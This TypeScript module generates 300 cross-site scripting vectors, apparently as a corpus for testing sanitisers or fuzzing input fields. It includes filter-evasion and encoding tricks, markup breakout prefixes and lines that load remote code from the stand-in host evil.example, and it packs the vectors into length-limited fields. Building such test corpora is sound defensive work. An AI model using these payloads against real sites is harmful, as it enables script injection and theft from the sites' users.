/** Texts that run a script or fetch something if they are taken for markup or an address. */
const FORMS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  () => '<script src=//evil.example/x.js></script>',
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<body onload=${call}>`,
  (call) => `<iframe src=javascript:${call}>`,
  (call) => `<iframe srcdoc="<script>${call}</script>">`,
  (call) => `<video><source onerror=${call}>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}>`,
  (call) => `<textarea autofocus onfocus=${call}>`,
  (call) => `<marquee onstart=${call}>`,
  (call) => `<object data=javascript:${call}>`,
  (call) => `<embed src=javascript:${call}>`,
  (call) => `<math href=javascript:${call}>x</math>`,
  (call) => `<form action=javascript:${call}><input type=submit>`,
  (call) => `<button formaction=javascript:${call}>x`,
  (call) => `<a href=javascript:${call}>x</a>`,
  (call) => `<a href="data:text/html,<script>${call}</script>">x</a>`,
  () => `<style>@import'//evil.example/x.css'</style>`,
  () => '<link rel=stylesheet href=//evil.example/x.css>',
  (call) => `<meta http-equiv=refresh content=0;url=javascript:${call}>`,
  () => '<base href=//evil.example/>',
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<x tabindex=0 autofocus onfocus=${call}>`,
  (call) => `<div style="background:url(javascript:${call})">`,
  () => '<img src=//evil.example/p.png>',
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><a xlink:href=javascript:${call}><text y=9>x`,
  (call) => `<svg><use href="data:image/svg+xml,<svg onload=${call}>#x">`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `$\{${call}}`,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `[[${call}]]`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&#60;script&#62;${call}&#60;/script&#62;`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `<scr<script>ipt>${call}</script>`,
  (call) => `<SCRIPT/x>${call}</SCRIPT>`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<img/src=x/onerror=${call}>`,
  (call) => `<img src="x"onerror="${call}">`,
  (call) => `<img src=x onerror="&#97;${call.slice(1)}">`,
  (call) => `<a href="jav&#x09;ascript:${call}">x</a>`,
  (call) => `[x](javascript:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<![CDATA[<img src=x onerror=${call}>]]>`,
  (call) => `<?xml-stylesheet href="javascript:${call}"?>`,
  (call) => `\`onmouseover=${call} x=\``,
  (call) => `" autofocus onfocus=${call} x="`,
];

/** Prefixes that break out of the surrounding markup. */
const WAYS_OUT: readonly string[] = ['', '">', "'>", '</textarea>', '--></title></script>'];

/** 300 different texts. Each one that runs calls `alert` with its own number. */
export const SCRIPT_VECTORS: readonly string[] = WAYS_OUT.flatMap((out, way) =>
  FORMS.map((form, place) => out + form(`alert(${way * FORMS.length + place})`)),
);

/** The vectors, joined into texts that fit a field of `mostChars`; longer ones are left out. */
export function packed(mostChars: number): string[] {
  const texts: string[] = [];
  for (const vector of SCRIPT_VECTORS) {
    if (vector.length > mostChars) continue;
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + vector.length <= mostChars)
      texts[texts.length - 1] = `${last} ${vector}`;
    else texts.push(vector);
  }
  return texts;
}
